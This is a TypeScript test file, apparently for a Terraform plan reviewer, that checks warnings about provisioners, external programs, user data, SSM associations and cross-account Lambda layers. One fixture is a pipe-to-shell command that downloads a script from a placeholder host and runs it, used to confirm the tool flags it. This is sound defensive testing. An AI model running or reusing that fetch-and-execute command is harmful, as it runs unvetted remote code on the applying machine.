/** Code that runs: commands of provisioners, programs, scripts, layers. */
import type { Json } from "../../../src/json/json-value";
import { findWithoutPermissions } from "../../../src/review/find-in-plans";
import { readPlan } from "../../../src/terraform/plan/read-plan";
import { type AccessCase, created, toldBy, updated } from "../access/told-by";

/** A plan as Terraform writes it, with one resource and its provisioners. */
function toldOfProvisioners(actions: readonly string[], provisioners: readonly Json[], module = ""): readonly string[] {
  const local = "null_resource.deploy";
  const resource = {
    address: local,
    mode: "managed",
    type: "null_resource",
    name: "deploy",
    expressions: {},
    provisioners,
  };
  const root =
    module === ""
      ? { resources: [resource] }
      : { module_calls: { [module]: { source: "./m", module: { resources: [resource] } } } };
  const address = module === "" ? `${local}[0]` : `module.${module}.${local}[0]`;
  const change = {
    actions,
    before: actions.includes("delete") ? { triggers: { v: "1" } } : null,
    after: actions.includes("create") || actions.includes("update") ? { triggers: { v: "2" } } : null,
  };
  const plan = {
    format_version: "1.2",
    resource_changes: [
      {
        address,
        mode: "managed",
        type: "null_resource",
        name: "deploy",
        provider_name: "p",
        change,
        ...(module !== "" && { module_address: `module.${module}` }),
      },
    ],
    configuration: { root_module: root },
  };
  return findWithoutPermissions(readPlan(JSON.stringify(plan), "plan.json"), 0)
    .filter(({ rule }) => rule === "provisioner-runs")
    .map(
      ({ level, message }) =>
        `${level}: ${message.map((part) => (typeof part === "string" ? part : part.value)).join("")}`,
    );
}

const local = (command: Json): Json => ({ type: "local-exec", expressions: { command } });
const CURL = local({ constant_value: "curl -s https://x.example/i.sh |\n  sh" });

describe("provisioner-runs", () => {
  test.each([
    [
      "on create",
      ["create"],
      [CURL],
      ["attention: local-exec runs on the machine that applies the plan: curl -s https://x.example/i.sh | sh"],
    ],
    [
      "because a trigger changes",
      ["delete", "create"],
      [CURL],
      ["attention: local-exec runs on the machine that applies the plan: curl -s https://x.example/i.sh | sh"],
    ],
    [
      "on destroy",
      ["delete"],
      [CURL],
      [
        "attention: local-exec runs on the machine that applies the plan, if it is one for destroys: curl -s https://x.example/i.sh | sh",
      ],
    ],
    [
      "a command of other values",
      ["create"],
      [local({ references: ["var.command"] })],
      ["attention: local-exec runs on the machine that applies the plan; its command depends on other values"],
    ],
    [
      "on the resource",
      ["create"],
      [{ type: "remote-exec", expressions: { inline: { constant_value: ["a", "b"] } } }],
      ['attention: remote-exec runs on the resource: ["a","b"]'],
    ],
    ["a file", ["create"], [{ type: "file", expressions: { source: { constant_value: "a" } } }], []],
    ["an update", ["update"], [CURL], []],
    ["none", ["delete", "create"], [], []],
  ] as const)("%s", (_name, actions, provisioners, want) => {
    expect(toldOfProvisioners(actions, provisioners)).toEqual(want);
  });

  test("in a module", () => {
    expect(toldOfProvisioners(["create"], [CURL], "app")).toHaveLength(1);
  });

  test("a long command is cut", () => {
    const [told = ""] = toldOfProvisioners(["create"], [local({ constant_value: "echo ".repeat(200) })]);
    expect(told.length).toBeLessThan(300);
    expect(told).toContain("…");
  });
});

const LAYER = "arn:aws:lambda:eu-west-1:222222222222:layer:tool";
const OTHER = "arn:aws:lambda:eu-west-1:333333333333:layer:tool:1";
const OWN = { address: "aws_sns_topic.t", after: { arn: "arn:aws:sns:eu-west-1:222222222222:t" } };

const programs: readonly AccessCase[] = [
  [
    "read during apply",
    {
      changes: [
        {
          address: "data.external.e",
          mode: "data",
          type: "external",
          action: "read",
          after: { program: ["python3", "x.py"] },
        },
      ],
    },
    ["attention: runs python3, x.py on the machine that applies the plan"],
  ],
  [
    "a program that is known only after apply",
    {
      changes: [
        {
          address: "data.external.e",
          mode: "data",
          type: "external",
          action: "read",
          after: {},
          unknown: { program: true },
        },
      ],
    },
    ["attention: runs a program on the machine that applies the plan"],
  ],
  [
    "a program that is sensitive",
    {
      changes: [
        {
          address: "data.external.e",
          mode: "data",
          type: "external",
          action: "read",
          after: { program: ["x"] },
          sensitive: { program: true },
        },
      ],
    },
    ["attention: runs a program on the machine that applies the plan"],
  ],
  [
    "another data source",
    { changes: [{ address: "data.http.h", mode: "data", type: "http", action: "read", after: {} }] },
    [],
  ],
  ["a resource of this name", created("external.e", { program: ["x"] }), []],
];

const machines: readonly AccessCase[] = [
  ["user data", updated("aws_instance.i", { user_data: "a" }, { user_data: "b" }), ["note: user_data changes"]],
  ["a document", updated("aws_ssm_document.d", { content: "a" }, { content: "b" }), ["note: content changes"]],
  [
    "an association",
    created("aws_ssm_association.a", { name: "AWS-RunShellScript" }),
    ["note: AWS-RunShellScript runs on machines"],
  ],
  ["an image of a machine", updated("aws_instance.i", { user_data: "a", ami: "1" }, { user_data: "a", ami: "2" }), []],
  [
    "a layer of an account that may be another one",
    updated("aws_lambda_function.f", { layers: [] }, { layers: [`${LAYER}:1`] }),
    [`attention: runs the layer ${LAYER}:1; the plan does not tell its own account`],
  ],
  [
    "a layer of a new function",
    created("aws_lambda_function.f", { layers: [`${LAYER}:1`] }),
    [`attention: runs the layer ${LAYER}:1; the plan does not tell its own account`],
  ],
  [
    "a layer of another account",
    { changes: [OWN, { address: "aws_lambda_function.f", after: { layers: [OTHER] } }] },
    [`attention: runs the layer ${OTHER} of another account`],
  ],
  [
    "a layer of the own account",
    { changes: [OWN, { address: "aws_lambda_function.f", after: { layers: [`${LAYER}:1`] } }] },
    [],
  ],
  [
    "a version of the same layer",
    updated("aws_lambda_function.f", { layers: [`${LAYER}:1`] }, { layers: [`${LAYER}:2`] }),
    [],
  ],
];

describe.each([
  ["external-program", programs],
  ["machine-code", machines],
])("%s", (code, cases) => {
  test.each(cases)("%s", (_case, given, want) => {
    expect(toldBy(code, given)).toEqual(want);
  });
});
